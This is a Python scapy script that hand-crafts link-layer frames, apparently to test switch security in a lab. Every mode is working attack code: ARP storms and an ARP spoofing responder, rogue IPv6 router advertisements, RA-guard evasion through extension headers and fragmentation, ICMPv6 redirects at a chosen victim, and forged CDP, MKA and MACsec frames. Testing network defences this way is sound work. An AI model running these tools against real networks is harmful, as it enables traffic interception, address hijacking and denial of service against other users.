"""What a switch port or an attacker sends, made by hand.

    link.py macsec --mac MAC [--count N]                       protected frames, one every two seconds
    link.py mka --mac MAC --member HEX --ckn HEX [--count N]   key agreement hellos without a live peer
    link.py cdp --mac MAC --device NAME --port NAME --vlan N [--count N]
    link.py storm --mac MAC --claims IP [--seconds N] [--rate N]   gratuitous ARP without pause
    link.py evade --mac MAC --source IP6                        router advertisements behind other headers
    link.py redirect --mac MAC --source IP6 --victim-mac MAC --victim IP6 --target IP6 --destination IP6
    link.py advertise --mac MAC --source IP6 --prefix IP6 [--count N]   router advertisements every four seconds
    link.py answer --mac MAC --claims IP                        answers every ARP request for the address
"""
import argparse
import os
import struct
import time

from scapy.all import (
    ARP,
    AsyncSniffer,
    Ether,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    PadN,
    Raw,
    conf,
    fragment6,
    sendp,
)

conf.verb = 0
parser = argparse.ArgumentParser()
parser.add_argument("mode")
for name in ("mac", "member", "ckn", "device", "port", "claims", "source", "victim-mac", "victim", "target", "destination", "prefix"):
    parser.add_argument("--" + name)
for name, default in (("count", 5), ("vlan", 1), ("seconds", 20), ("rate", 20)):
    parser.add_argument("--" + name, type=int, default=default)
args = parser.parse_args()
send = lambda frame: sendp(frame, iface="eth0")


def macsec():
    for number in range(1, args.count + 1):
        tag = struct.pack("!BBI", 0x2C, 0, number) + bytes.fromhex(args.mac.replace(":", "")) + b"\0\1"
        send(Ether(src=args.mac, dst="ff:ff:ff:ff:ff:ff", type=0x88E5) / Raw(tag + os.urandom(60 + 16)))
        time.sleep(2)


def mka():
    ckn = bytes.fromhex(args.ckn)
    for number in range(1, args.count + 1):
        body = struct.pack("!BBH", 3, 16, 0x8000 | 0x4000 | 0x2000 | (28 + len(ckn)))
        body += bytes.fromhex(args.mac.replace(":", "")) + b"\0\1" + bytes.fromhex(args.member) + struct.pack("!I", number)
        body += bytes.fromhex("0080c201") + ckn + bytes(-len(ckn) % 4) + os.urandom(16)
        send(Ether(src=args.mac, dst="01:80:c2:00:00:03", type=0x888E) / Raw(struct.pack("!BBH", 3, 5, len(body)) + body))
        time.sleep(2)


def cdp():
    tlv = lambda kind, value: struct.pack("!HH", kind, 4 + len(value)) + value
    body = b"\2\xb4\0\0" + tlv(1, args.device.encode()) + tlv(3, args.port.encode()) + tlv(6, b"lab") + tlv(10, struct.pack("!H", args.vlan))
    total = sum(struct.unpack("!%dH" % (len(body + bytes(len(body) % 2)) // 2), body + bytes(len(body) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    inner = bytes.fromhex("aaaa0300000c2000") + body
    for _ in range(args.count):
        send(Ether(src=args.mac, dst="01:00:0c:cc:cc:cc", type=len(inner)) / Raw(inner))
        time.sleep(1)


def storm():
    socket = conf.L2socket(iface="eth0")
    frame = Ether(src=args.mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=args.mac, psrc=args.claims, pdst=args.claims)
    end = time.time() + args.seconds
    while time.time() < end:
        socket.send(frame)
        time.sleep(1 / args.rate)


def evade():
    ether = Ether(src=args.mac, dst="33:33:00:00:00:01")
    ip = IPv6(src=args.source, dst="ff02::1", hlim=255)
    options = ICMPv6NDOptSrcLLAddr(lladdr=args.mac)
    send(ether / ip / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]) / ICMPv6ND_RA(routerlifetime=1800) / options)
    whole = ip / IPv6ExtHdrFragment(id=7) / ICMPv6ND_RA(routerlifetime=1800) / options / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    for piece in fragment6(whole, 80):
        send(ether / piece)


def redirect():
    send(
        Ether(src=args.mac, dst=args.victim_mac)
        / IPv6(src=args.source, dst=args.victim, hlim=255)
        / ICMPv6ND_Redirect(tgt=args.target, dst=args.destination)
    )


def advertise():
    for _ in range(args.count):
        send(
            Ether(src=args.mac, dst="33:33:00:00:00:01")
            / IPv6(src=args.source, dst="ff02::1", hlim=255)
            / ICMPv6ND_RA(routerlifetime=1800)
            / ICMPv6NDOptSrcLLAddr(lladdr=args.mac)
            / ICMPv6NDOptPrefixInfo(prefix=args.prefix, prefixlen=64)
        )
        time.sleep(4)


def answer():
    socket = conf.L2socket(iface="eth0")

    def heard(frame):
        if frame[ARP].op == 1 and frame[ARP].pdst == args.claims and frame[ARP].psrc != "0.0.0.0":
            socket.send(Ether(src=args.mac, dst=frame.src) / ARP(op=2, hwsrc=args.mac, psrc=args.claims, hwdst=frame.src, pdst=frame[ARP].psrc))

    AsyncSniffer(iface="eth0", filter="arp", prn=heard, store=False, started_callback=lambda: print("ready", flush=True)).start()
    while True:
        time.sleep(1)


globals()[args.mode]()
